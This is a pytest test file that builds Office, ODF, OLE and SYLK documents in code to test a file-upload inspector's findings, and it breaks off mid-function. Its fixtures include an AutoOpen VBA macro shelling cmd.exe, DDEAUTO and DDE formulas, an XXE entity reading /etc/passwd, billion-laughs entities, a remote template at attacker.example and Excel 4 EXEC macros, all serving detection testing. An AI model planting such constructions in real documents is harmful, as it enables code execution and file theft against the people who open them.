"""Office inspection on documents built here: zip packages by hand, OLE files with a small
compound-file writer, VBA projects with a literal-only MS-OVBA encoder. No binary fixtures."""

from __future__ import annotations

import io
import itertools
import math
import struct
import uuid
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from filegate.inspect import office

# One definition of an office container, shared with the archive inspector.
from filegate.inspect.archives import is_office_container
from filegate.inspect.base import InspectorReport, Limits, Sample
from filegate.inspect.office import CODES, INFORMATIONAL_CODES, OLE_MAGIC, inspect_office

# --- a minimal compound file (MS-CFB, version 3) writer -----------------------------------------

SECTOR, MINI_SECTOR, MINI_CUTOFF = 512, 64, 4096
FREE, END_OF_CHAIN, FAT_SECTOR, NO_STREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF
STORAGE, STREAM, ROOT = 1, 2, 5
EXCEL_CLSID = uuid.UUID("00020820-0000-0000-C000-000000000046").bytes_le


class Entry:
    def __init__(self, name: str, kind: int, data: bytes = b"") -> None:
        self.name, self.kind, self.data = name, kind, data
        self.children: dict[str, Entry] = {}
        self.sid, self.right, self.child = 0, NO_STREAM, NO_STREAM
        self.start, self.size = END_OF_CHAIN, 0
        self.clsid = bytes(16)

    def pack(self) -> bytes:
        name = (self.name + "\0").encode("utf-16-le")
        return struct.pack(
            "<64sHBBIII16sIQQIQ",
            name,
            len(name),
            self.kind,
            1,  # black
            NO_STREAM,  # left sibling: siblings chain to the right
            self.right,
            self.child,
            self.clsid,
            0,
            0,
            0,
            self.start,
            self.size,
        )


def directory_tree(streams: Mapping[str, bytes], clsid: bytes) -> list[Entry]:
    """Entries breadth first, root first; siblings sorted as CFB compares names."""
    root = Entry("Root Entry", ROOT)
    root.clsid = clsid
    for path, data in streams.items():
        *storages, leaf = path.split("/")
        node = root
        for name in storages:
            node = node.children.setdefault(name, Entry(name, STORAGE))
        node.children[leaf] = Entry(leaf, STREAM, data)
    entries = [root]
    for entry in entries:  # the list grows as it is walked
        kids = sorted(entry.children.values(), key=lambda e: (len(e.name), e.name.upper()))
        for sid, kid in enumerate(kids, len(entries)):
            kid.sid = sid
        for kid, following in itertools.pairwise(kids):
            kid.right = following.sid
        if kids:
            entry.child = kids[0].sid
        entries.extend(kids)
    return entries


def chain(fat: list[int], count: int) -> int:
    """Append a chain of ``count`` sectors to ``fat``; return its first sector."""
    if not count:
        return END_OF_CHAIN
    first = len(fat)
    fat.extend(range(first + 1, first + count))
    fat.append(END_OF_CHAIN)
    return first


def compound_file(streams: Mapping[str, bytes], clsid: bytes = bytes(16)) -> bytes:
    """A compound file holding ``streams`` ('/'-separated paths). Streams under 4 KiB go to the
    mini stream, as the format requires; larger ones to regular sectors."""
    entries = directory_tree(streams, clsid)
    small = [e for e in entries if e.kind == STREAM and len(e.data) < MINI_CUTOFF]
    big = [e for e in entries if e.kind == STREAM and len(e.data) >= MINI_CUTOFF]
    mini_fat: list[int] = []
    mini_stream = b""
    for entry in small:
        count = math.ceil(len(entry.data) / MINI_SECTOR)
        entry.start, entry.size = chain(mini_fat, count), len(entry.data)
        mini_stream += entry.data.ljust(count * MINI_SECTOR, b"\0")
    regions = [
        b"",  # the directory, packed once every start sector is known
        struct.pack(f"<{len(mini_fat)}I", *mini_fat),
        mini_stream,
        *(entry.data for entry in big),
    ]
    counts = [math.ceil(len(entries) / 4)] + [math.ceil(len(r) / SECTOR) for r in regions[1:]]
    fat: list[int] = []
    starts = [chain(fat, count) for count in counts]
    fat_count = math.ceil((len(fat) + 1) / 127)  # each FAT sector maps 128, itself included
    fat_start = len(fat)
    fat += [FAT_SECTOR] * fat_count
    fat += [FREE] * (fat_count * SECTOR // 4 - len(fat))
    entries[0].start, entries[0].size = starts[2], len(mini_stream)
    for entry, start in zip(big, starts[3:], strict=True):
        entry.start, entry.size = start, len(entry.data)
    regions[0] = b"".join(entry.pack() for entry in entries)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII",
        OLE_MAGIC,
        bytes(16),
        0x3E,  # minor version
        3,  # major version: 512-byte sectors
        0xFFFE,  # little-endian
        9,  # sector shift
        6,  # mini sector shift
        bytes(6),
        0,  # directory sectors (always 0 in version 3)
        fat_count,
        starts[0],
        0,  # transaction signature
        MINI_CUTOFF,
        starts[1],
        counts[1],
        END_OF_CHAIN,  # no DIFAT sectors: up to 109 FAT sectors fit in the header
        0,
    )
    difat = [fat_start + i for i in range(fat_count)] + [FREE] * (109 - fat_count)
    body = b"".join(r.ljust(n * SECTOR, b"\0") for r, n in zip(regions, counts, strict=True))
    return header + struct.pack("<109I", *difat) + body + struct.pack(f"<{len(fat)}I", *fat)


# --- a VBA project (MS-OVBA) ----------------------------------------------------------------------


def ovba_compress(data: bytes) -> bytes:
    """MS-OVBA compression using literal tokens only: valid, just never smaller."""
    out = b"\x01"
    for start in range(0, len(data), 3640):  # 3640 literals + 455 flag bytes fit a chunk
        chunk = data[start : start + 3640]
        tokens = b"".join(b"\x00" + chunk[i : i + 8] for i in range(0, len(chunk), 8))
        out += struct.pack("<H", (len(tokens) - 1) | 0xB000) + tokens
    return out


def record(kind: int, payload: bytes) -> bytes:
    return struct.pack("<HI", kind, len(payload)) + payload


def dir_stream(module: str) -> bytes:
    """The 'dir' stream of a project with one procedural module whose source is at offset 0."""
    name, wide = module.encode(), module.encode("utf-16-le")
    u32, u16 = (lambda v: struct.pack("<I", v)), (lambda v: struct.pack("<H", v))
    records = [
        record(0x01, u32(1)),  # PROJECTSYSKIND: 32-bit Windows
        record(0x02, u32(0x409)),  # PROJECTLCID
        record(0x14, u32(0x409)),  # PROJECTLCIDINVOKE
        record(0x03, u16(1252)),  # PROJECTCODEPAGE
        record(0x04, b"VBAProject"),  # PROJECTNAME
        record(0x05, b"") + record(0x40, b""),  # PROJECTDOCSTRING, ANSI and Unicode
        record(0x06, b"") + record(0x3D, b""),  # PROJECTHELPFILEPATH, twice
        record(0x07, u32(0)),  # PROJECTHELPCONTEXT
        record(0x08, u32(0)),  # PROJECTLIBFLAGS
        struct.pack("<HIIH", 0x09, 4, 1, 0),  # PROJECTVERSION
        record(0x0C, b"") + record(0x3C, b""),  # PROJECTCONSTANTS, ANSI and Unicode
        record(0x0F, u16(1)),  # PROJECTMODULES: one
        record(0x13, u16(0xFFFF)),  # PROJECTCOOKIE
        record(0x19, name) + record(0x47, wide),  # MODULENAME, ANSI and Unicode
        record(0x1A, name) + record(0x32, wide),  # MODULESTREAMNAME, ANSI and Unicode
        record(0x1C, b"") + record(0x48, b""),  # MODULEDOCSTRING, ANSI and Unicode
        record(0x31, u32(0)),  # MODULEOFFSET: the source starts the module stream
        record(0x1E, u32(0)),  # MODULEHELPCONTEXT
        record(0x2C, u16(0xFFFF)),  # MODULECOOKIE
        record(0x21, b""),  # MODULETYPE: procedural
        record(0x2B, b""),  # end of module
        record(0x10, b""),  # end of dir stream
    ]
    return ovba_compress(b"".join(records))


def vba_project(source: str, root: str = "Macros") -> dict[str, bytes]:
    """The streams of a VBA project holding ``source`` in Module1, under storage ``root``."""
    prefix = f"{root}/" if root else ""
    code = f'Attribute VB_Name = "Module1"\r\n{source}'.encode()
    project = (
        'ID="{00000000-0000-0000-0000-000000000000}"\r\nModule=Module1\r\nName="VBAProject"\r\n'
    )
    return {
        f"{prefix}PROJECT": project.encode(),
        f"{prefix}VBA/_VBA_PROJECT": b"\xcc\x61\xff\xff\x00\x00\x00",
        f"{prefix}VBA/dir": dir_stream("Module1"),
        f"{prefix}VBA/Module1": ovba_compress(code),
    }


HARMLESS_MACRO = 'Sub Greet()\r\n  MsgBox "hello"\r\nEnd Sub\r\n'
DROPPER_MACRO = 'Sub AutoOpen()\r\n  Shell "cmd.exe /c calc.exe"\r\nEnd Sub\r\n'


def vba_project_bin(source: str) -> bytes:
    """What OOXML stores as vbaProject.bin: the project at the root of its own OLE file."""
    return compound_file(vba_project(source, root=""))


# --- legacy OLE documents -------------------------------------------------------------------------


def word_stream(text: bytes = b"hello", *, encrypted: bool = False) -> bytes:
    """A WordDocument stream: a FibBase (fEncrypted is bit 8 of the flags at 0x0A), then text."""
    flags = 0x0100 if encrypted else 0
    fib = struct.pack(
        "<HHHHHHHIBBHHII", 0xA5EC, 0xC1, 0, 0x409, 0, flags, 0xBF, 0, 0, 0, 0, 0, 0, 0
    )
    return fib.ljust(512, b"\0") + text


def legacy_doc(**extra: bytes) -> bytes:
    return compound_file({"WordDocument": word_stream(), **extra})


def biff(kind: int, payload: bytes) -> bytes:
    return struct.pack("<HH", kind, len(payload)) + payload


def xls(sheet_kind: int, clsid: bytes = EXCEL_CLSID) -> bytes:
    """A BIFF8 workbook with one sheet of the given BOUNDSHEET "dt" (1: Excel 4 macro sheet)."""
    bof = biff(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06))
    sheet = biff(0x0085, struct.pack("<IBBBB", 0, 0, sheet_kind, 6, 0) + b"Sheet1")
    return compound_file({"Workbook": bof + sheet + biff(0x000A, b"")}, clsid=clsid)


DDE_FIELD = b'\x13 DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" \x14x\x15'

# --- OOXML packages -------------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSB_MAIN = "application/vnd.ms-excel.sheet.binary.macroEnabled.main"
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def content_types(overrides: Mapping[str, str], defaults: Mapping[str, str] | None = None) -> str:
    return (
        DECLARATION
        + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + '<Default Extension="rels" '
        + 'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        + '<Default Extension="xml" ContentType="application/xml"/>'
        + "".join(
            f'<Default Extension="{e}" ContentType="{t}"/>' for e, t in (defaults or {}).items()
        )
        + "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides.items())
        + "</Types>"
    )


def relationships(*rels: tuple[str, str, str]) -> str:
    """(type suffix, target, mode) triples; mode "" for internal targets."""
    body = "".join(
        f'<Relationship Id="rId{n}" Type="{R}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for n, (kind, target, mode) in enumerate(rels, 1)
    )
    return f'{DECLARATION}<Relationships xmlns="{PKG_REL}">{body}</Relationships>'


def word_document(body: str = "<w:p><w:r><w:t>Hello</w:t></w:r></w:p>") -> str:
    return (
        f'{DECLARATION}<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    )


Parts = Mapping[str, str | bytes]


def package(parts: Parts) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx(
    body: str | None = None,
    *,
    main: str = DOCX_MAIN,
    defaults: Mapping[str, str] | None = None,
    extra: Parts | None = None,
) -> bytes:
    return package({**docx_parts(body, main=main, defaults=defaults), **(extra or {})})


def docx_parts(
    body: str | None = None, *, main: str = DOCX_MAIN, defaults: Mapping[str, str] | None = None
) -> Parts:
    return {
        "[Content_Types].xml": content_types({"/word/document.xml": main}, defaults),
        "_rels/.rels": relationships(("officeDocument", "word/document.xml", "")),
        "word/document.xml": word_document(body) if body is not None else word_document(),
    }


def run(instruction: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'


def field(*instruction_runs: str) -> str:
    """A complex field whose instruction is split over runs, as Word does after edits."""
    char = '<w:r><w:fldChar w:fldCharType="{}"/></w:r>'.format
    runs = "".join(run(part) for part in instruction_runs)
    return f"<w:p>{char('begin')}{runs}{char('separate')}<w:r><w:t>1</w:t></w:r>{char('end')}</w:p>"


def remote_template() -> bytes:
    settings = (
        f'{DECLARATION}<w:settings xmlns:w="{W}" xmlns:r="{R}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>'
    )
    template = ("attachedTemplate", "https://attacker.example/t.dotm", "External")
    return docx(
        extra={
            "word/_rels/document.xml.rels": relationships(("settings", "settings.xml", "")),
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relationships(template),
        }
    )


def hyperlink() -> bytes:
    body = '<w:p><w:hyperlink r:id="rId1"><w:r><w:t>site</w:t></w:r></w:hyperlink></w:p>'
    target = ("hyperlink", "https://example.com/", "External")
    return docx(body, extra={"word/_rels/document.xml.rels": relationships(target)})


XXE = (
    '<?xml version="1.0"?>\n<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    f'<w:document xmlns:w="{W}"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p></w:body>'
    "</w:document>"
)
LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>'
)

S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def xlsx(formula: str | None = None, *, main: str = XLSX_MAIN, extra: Parts | None = None) -> bytes:
    cell = (
        f"<c r='A1'><f>{formula}</f></c>"
        if formula
        else "<c r='A1' t='inlineStr'><is><t>hi</t></is></c>"
    )
    sheet = (
        f'{DECLARATION}<worksheet xmlns="{S}"><sheetData><row r="1">{cell}</row></sheetData>'
        "</worksheet>"
    )
    workbook = (
        f'{DECLARATION}<workbook xmlns="{S}" xmlns:r="{R}">'
        '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    return package(
        {
            "[Content_Types].xml": content_types({"/xl/workbook.xml": main}),
            "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml", "")),
            "xl/workbook.xml": workbook,
            "xl/_rels/workbook.xml.rels": relationships(("worksheet", "worksheets/sheet1.xml", "")),
            "xl/worksheets/sheet1.xml": sheet,
            **(extra or {}),
        }
    )


DDE_LINK = (
    f'{DECLARATION}<externalLink xmlns="{S}"><ddeLink ddeService="cmd" '
    'ddeTopic="/c calc.exe"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink></externalLink>'
)

# --- ODF packages ---------------------------------------------------------------------------------

ODF_OFFICE = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
ODF_NAMESPACES = (
    f'xmlns:office="{ODF_OFFICE}" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    'xmlns:xlink="http://www.w3.org/1999/xlink" office:version="1.3"'
)
MANIFEST_NS = "urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"


def odf_content(
    body: str = "<office:text><text:p>Hello</text:p></office:text>", scripts: str = ""
) -> str:
    return (
        f"{DECLARATION}<office:document-content {ODF_NAMESPACES}>"
        f"<office:scripts>{scripts}</office:scripts><office:body>{body}</office:body>"
        "</office:document-content>"
    )


def manifest(entries: str = "") -> str:
    return (
        f'{DECLARATION}<manifest:manifest xmlns:manifest="{MANIFEST_NS}" manifest:version="1.3">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
        f"{entries}</manifest:manifest>"
    )


def odt(
    content: str | bytes | None = None,
    *,
    manifest_xml: str | None = None,
    mimetype: bytes = b"application/vnd.oasis.opendocument.text",
    extra: Parts | None = None,
) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        # ODF: "mimetype" first and stored, so `file` can read it at a fixed offset.
        archive.writestr("mimetype", mimetype, compress_type=zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", manifest_xml or manifest())
        archive.writestr("content.xml", content if content is not None else odf_content())
        for name, data in (extra or {}).items():
            archive.writestr(name, data)
    return buffer.getvalue()


ODF_MODULE = (
    f'{DECLARATION}<script:module xmlns:script="http://openoffice.org/2000/script" '
    'script:name="Module1" script:language="StarBasic">Sub Main\nShell("calc")\nEnd Sub'
    "</script:module>"
)
ODF_EVENT = (
    '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
    'xlink:href="vnd.sun.star.script:../../../program/python-core/lib/pydoc.py$tempfilepager'
    '(1, calc.exe)?language=Python&amp;location=share"/>'
)


def encrypted_odt() -> bytes:
    entry = (
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml">'
        '<manifest:encryption-data manifest:checksum-type="SHA1/1K" manifest:checksum="AAAA">'
        '<manifest:algorithm manifest:algorithm-name="Blowfish CFB" '
        'manifest:initialisation-vector="AAAA"/>'
        '<manifest:key-derivation manifest:key-derivation-name="PBKDF2" '
        'manifest:iteration-count="1024" manifest:salt="AAAA"/>'
        "</manifest:encryption-data></manifest:file-entry>"
    )
    return odt(bytes(range(256)) * 4, manifest_xml=manifest(entry))


# --- SYLK -----------------------------------------------------------------------------------------

SYLK_PLAIN = b'ID;PWXL;N;E\r\nC;Y1;X1;K"hello"\r\nE\r\n'
# "O;E" makes the sheet a macro sheet; the named cell Auto_open runs it on opening.
SYLK_XLM = (
    b"ID;P\r\nO;E\r\nNN;NAuto_open;ER1C1\r\n"
    b'C;Y1;X1;K0;EEXEC("calc.exe")\r\nC;Y2;X1;K0;EHALT()\r\nE\r\n'
)
SYLK_DDE = b"ID;P\r\nC;Y1;X1;K0;ECMD|' /C calc.exe'!A0\r\nE\r\n"

# --- running the inspector ------------------------------------------------------------------------


def inspect_bytes(tmp_path: Path, data: bytes, limits: Limits | None = None) -> InspectorReport:
    path = tmp_path / "upload"
    path.write_bytes(data)
    sample = Sample(str(path), len(data), "application/octet-stream", None)
    outcome = inspect_office(sample, limits or Limits())
    found = [finding.code for finding in outcome.findings]
    assert set(found) <= CODES.keys()
    assert len(set(found)) == len(found), "one finding per code"
    assert not outcome.sanitized
    return outcome


def codes(outcome: InspectorReport) -> set[str]:
    return {finding.code for finding in outcome.findings}


def zip_with_encrypted_member() -> bytes:
    """A package whose document part has the zip "encrypted" flag (bit 0) set.

    zipfile cannot write encrypted entries, so the flag is set in the written headers: local
    (flags at byte 6) and central (byte 8). To a reader the bytes are then ciphertext.
    """
    data = bytearray(
        package({"[Content_Types].xml": content_types({}), "word/document.xml": bytes(200)})
    )
    for signature, flags_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(signature)
        while start >= 0:
            name_at = start + (30 if flags_at == 6 else 46)
            if data[name_at : name_at + 17] == b"word/document.xml":
                data[start + flags_at] |= 0x01
            start = data.find(signature, start + 4)
    return bytes(data)


def encrypted_ooxml_real() -> bytes:
    """A docx encrypted by msoffcrypto-tool (agile encryption), as Word does with a password."""
    from msoffcrypto.format.ooxml import OOXMLFile

    encrypted = io.BytesIO()
    OOXMLFile(io.BytesIO(docx())).encrypt("secret", encrypted)
    return encrypted.getvalue()


OOXML_CASES = [
    pytest.param(docx, set(), id="docx-benign"),
    pytest.param(hyperlink, {"office_link"}, id="docx-hyperlink"),
    pytest.param(remote_template, {"office_external_relationship"}, id="docx-remote-template"),
    pytest.param(
        lambda: docx(extra={"word/vbaProject.bin": vba_project_bin(HARMLESS_MACRO)}),
        {"office_macros"},
        id="docx-with-vba-project",
    ),
    pytest.param(
        lambda: docx(extra={"word/vbaProject.bin": vba_project_bin(DROPPER_MACRO)}),
        {"office_macros", "office_macros_suspicious"},
        id="docx-with-autoexec-vba",
    ),
    pytest.param(
        lambda: docx(extra={"word/vbaProject.bin": b"not an OLE file"}),
        {"office_macros"},
        id="docx-with-opaque-vba-part",
    ),
    pytest.param(
        lambda: docx(
            defaults={"bin": "application/vnd.ms-office.vbaProject"},
            extra={"word/code.bin": vba_project_bin(DROPPER_MACRO)},
        ),
        {"office_macros", "office_macros_suspicious"},
        id="vba-project-under-another-name",
    ),
    # No macro part: nothing here runs. The pipeline calls it a .docm (type_mismatch).
    pytest.param(lambda: docx(main=DOCM_MAIN), set(), id="docm-without-macros"),
    pytest.param(
        lambda: docx(defaults={"bin": "application/vnd.ms-office.vbaProject"}),
        set(),
        id="macro-type-declared-for-no-part",
    ),
    pytest.param(
        lambda: docx(extra={"customXml/item1.xml": b"", "word/blank.xml": b"  \r\n"}),
        set(),
        id="empty-and-blank-xml-parts",
    ),
    pytest.param(
        lambda: docx(extra={"__MACOSX/word/._document.xml": b"\x00\x05\x16\x07\x00\x02"}),
        set(),
        id="finder-resource-fork",
    ),
    pytest.param(
        lambda: docx(extra={"word/broken.xml": b"<w:document"}),
        {"office_invalid"},
        id="truncated-xml-part",
    ),
    pytest.param(
        lambda: docx(
            '<w:p><w:fldSimple w:instr=" DDEAUTO c:\\\\windows\\\\cmd.exe &quot;/k calc&quot;"/>'
            "</w:p>"
        ),
        {"office_dde"},
        id="dde-simple-field",
    ),
    pytest.param(
        lambda: docx(field(" DD", "EAUTO c:\\\\windows\\\\cmd.exe ", '"/k calc"')),
        {"office_dde"},
        id="dde-split-over-runs",
    ),
    pytest.param(
        lambda: docx(field(" DDE ", "Excel ", "x.xls")),
        {"office_dde"},
        id="dde-plain",
    ),
    pytest.param(lambda: docx(field(" PAGE ", "\\* MERGEFORMAT")), set(), id="benign-field"),
    pytest.param(lambda: docx(field(" QUOTE ", '"DDE is just a word"')), set(), id="dde-as-text"),
    pytest.param(
        lambda: package({"[Content_Types].xml": content_types({}), "word/document.xml": XXE}),
        {"xml_dtd"},
        id="xxe-in-document",
    ),
    pytest.param(
        lambda: package({"[Content_Types].xml": LAUGHS}),
        {"xml_dtd"},
        id="billion-laughs-in-content-types",
    ),
    pytest.param(
        lambda: docx(extra={"word/media/blob.dat": XXE}),
        {"xml_dtd"},
        id="xxe-in-part-not-named-xml",
    ),
    pytest.param(
        lambda: docx(extra={"word/broken.xml": "<w:document><unclosed>"}),
        {"office_invalid"},
        id="malformed-xml",
    ),
    pytest.param(
        lambda: docx(extra={"word/blob.dat": '<?xml version="1.0"?><unclosed>'}),
        set(),
        id="xml-looking-blob-that-is-not-xml",
    ),
    pytest.param(
        # Obfuscated fonts start with 32 scrambled bytes; one may well be "<".
        lambda: docx(extra={"word/fonts/font1.odttf": b"<\x8f\x00\x13" + bytes(range(256))}),
        set(),
        id="binary-part-starting-with-angle-bracket",
    ),
    pytest.param(
        lambda: docx(
            extra={"word/embeddings/oleObject1.bin": legacy_doc(**vba_project(DROPPER_MACRO))}
        ),
        {"office_macros", "office_macros_suspicious"},
        id="embedded-ole-object-with-macros",
    ),
    pytest.param(xlsx, set(), id="xlsx-benign"),
    pytest.param(lambda: xlsx("SUM(1,2)"), set(), id="xlsx-formula"),
    pytest.param(lambda: xlsx('CONCAT("a|b","c")'), set(), id="xlsx-pipe-in-string"),
    pytest.param(lambda: xlsx("'odd|sheet'!A1"), set(), id="xlsx-pipe-in-sheet-name"),
    pytest.param(lambda: xlsx("cmd|' /C calc.exe'!A0"), {"office_dde"}, id="xlsx-dde-formula"),
    pytest.param(
        lambda: xlsx(extra={"xl/externalLinks/externalLink1.xml": DDE_LINK}),
        {"office_dde"},
        id="xlsx-dde-link",
    ),
    pytest.param(
        lambda: xlsx(extra={"xl/macrosheets/sheet1.xml": f'<xm:macrosheet xmlns:xm="{S}"/>'}),
        {"office_macros"},
        id="xlsx-excel4-macro-sheet",
    ),
    pytest.param(lambda: xlsx(main=XLSB_MAIN), set(), id="xlsb-content-type-alone"),
    pytest.param(
        lambda: package({"readme.txt": "just a zip"}), {"office_invalid"}, id="zip-not-office"
    ),
    pytest.param(zip_with_encrypted_member, {"office_encrypted"}, id="zip-encrypted-member"),
    pytest.param(lambda: docx()[:-40], {"office_invalid"}, id="truncated-zip"),
]

ODF_CASES = [
    pytest.param(odt, set(), id="odt-benign"),
    pytest.param(
        lambda: odt(extra={"Basic/script-lc.xml": "<x/>", "Basic/Standard/script-lb.xml": "<x/>"}),
        set(),
        id="odt-empty-basic-library",
    ),
    pytest.param(
        lambda: odt(
            extra={
                "Basic/script-lc.xml": "<x/>",
                "Basic/Standard/script-lb.xml": "<x/>",
                "Basic/Standard/Module1.xml": ODF_MODULE,
            }
        ),
        {"office_macros"},
        id="odt-basic-macro",
    ),
    pytest.param(
        lambda: odt(extra={"Scripts/python/payload.py": "import os\n"}),
        {"office_macros"},
        id="odt-python-script",
    ),
    pytest.param(
        lambda: odt(
            odf_content(scripts=f"<office:event-listeners>{ODF_EVENT}</office:event-listeners>")
        ),
        {"office_macros"},
        id="odt-event-calls-script",
    ),
    pytest.param(
        lambda: odt(
            odf_content(
                "<office:spreadsheet><table:table><table:table-row><table:table-cell "
                'table:formula="of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;y&quot;)"/>'
                "</table:table-row></table:table></office:spreadsheet>"
            )
        ),
        {"office_dde"},
        id="ods-dde-function",
    ),
    pytest.param(
        lambda: odt(
            odf_content(
                "<office:text><text:dde-connection-decls><text:dde-connection-decl "
                'office:dde-application="cmd" office:dde-topic="/c calc" office:dde-item="x"/>'
                "</text:dde-connection-decls></office:text>"
            )
        ),
        {"office_dde"},
        id="odt-dde-connection",
    ),
    pytest.param(encrypted_odt, {"office_encrypted"}, id="odt-password"),
    pytest.param(
        lambda: odt(mimetype=b"application/zip"), {"office_invalid"}, id="odf-wrong-mimetype"
    ),
]

OLE_CASES = [
    pytest.param(legacy_doc, set(), id="doc-benign"),
    pytest.param(
        lambda: legacy_doc(**vba_project(HARMLESS_MACRO)), {"office_macros"}, id="doc-vba"
    ),
    pytest.param(
        lambda: legacy_doc(**vba_project(DROPPER_MACRO)),
        {"office_macros", "office_macros_suspicious"},
        id="doc-autoexec-vba",
    ),
    pytest.param(
        lambda: compound_file({"WordDocument": word_stream(DDE_FIELD)}),
        {"office_dde"},
        id="doc-dde-field",
    ),
    pytest.param(
        lambda: compound_file({"WordDocument": word_stream(encrypted=True)}),
        {"office_encrypted"},
        id="doc-encrypted",
    ),
    pytest.param(lambda: xls(0), set(), id="xls-benign"),
    pytest.param(lambda: xls(1), {"office_macros"}, id="xls-excel4-macro-sheet"),
    pytest.param(
        lambda: xls(1, clsid=bytes(16)), {"office_macros"}, id="xls-macro-sheet-without-clsid"
    ),
    pytest.param(
        lambda: compound_file(
            {"EncryptionInfo": b"\x04\x00\x04\x00" + bytes(60), "EncryptedPackage": bytes(64)}
        ),
        {"office_encrypted"},
        id="encrypted-ooxml-crafted",
    ),
    pytest.param(encrypted_ooxml_real, {"office_encrypted"}, id="encrypted-ooxml-msoffcrypto"),
    pytest.param(lambda: OLE_MAGIC + bytes(100), {"office_invalid"}, id="ole-header-only"),
]

OTHER_CASES = [
    pytest.param(lambda: SYLK_PLAIN, set(), id="sylk-benign"),
    pytest.param(lambda: SYLK_XLM, {"office_macros"}, id="sylk-excel4-macros"),
    pytest.param(lambda: SYLK_DDE, {"office_dde"}, id="sylk-dde-formula"),
    pytest.param(lambda: b"just some text", {"office_invalid"}, id="not-a-document"),
    pytest.param(lambda: b"", {"office_invalid"}, id="empty"),
]


@pytest.mark.parametrize(("build", "expected"), OOXML_CASES + ODF_CASES + OLE_CASES + OTHER_CASES)
def test_findings(tmp_path: Path, build: Callable[[], bytes], expected: set[str]) -> None:
    assert codes(inspect_bytes(tmp_path, build())) == expected


def test_the_writer_makes_files_olefile_reads(tmp_path: Path) -> None:
    import olefile

    streams = {"Big": bytes(range(256)) * 40, "A/B/small": b"x" * 100, "Empty": b""}
    with olefile.OleFileIO(compound_file(streams)) as ole:
        assert sorted("/".join(p) for p in ole.listdir()) == ["A/B/small", "Big", "Empty"]
        for path, data in streams.items():
            assert ole.openstream(path).read() == data


def test_judges_content_not_name(tmp_path: Path) -> None:
    # The same macro-carrying bytes, whatever the upload claims to be.
    data = docx(main=DOCM_MAIN, extra={"word/vbaProject.bin": vba_project_bin(HARMLESS_MACRO)})
    path = tmp_path / "report.docx"
    path.write_bytes(data)
    sample = Sample(
        str(path),
        len(data),
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        "docx",
    )
    assert codes(inspect_office(sample, Limits())) == {"office_macros"}


def test_macros_are_reported_whatever_the_limits_say(tmp_path: Path) -> None:
    # The pipeline decides with allow_macros; suspicious macros stay a finding of their own.
    data = docx(extra={"word/vbaProject.bin": vba_project_bin(DROPPER_MACRO)})
    permissive = Limits(allow_macros=True)
    assert codes(inspect_bytes(tmp_path, data, permissive)) == {
        "office_macros",
        "office_macros_suspicious",
    }
    assert sorted(INFORMATIONAL_CODES) == ["office_link"]


def test_findings_name_the_part(tmp_path: Path) -> None:
    outcome = inspect_bytes(tmp_path, remote_template())
    (finding,) = outcome.findings
    assert finding.message == (
        "word/_rels/settings.xml.rels: external attachedTemplate relationship to "
        "https://attacker.example/t.dotm"
    )


def test_too_many_parts(tmp_path: Path) -> None:
    assert codes(inspect_bytes(tmp_path, docx(), Limits(max_archive_entries=2))) == {
        "office_too_complex"
    }


def test_parts_inflating_past_the_archive_limit(tmp_path: Path) -> None:
    assert codes(inspect_bytes(tmp_path, docx(), Limits(max_archive_total=100))) == {
        "office_too_complex"
    }


def test_part_too_large(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(office, "MAX_PART_BYTES", 200)
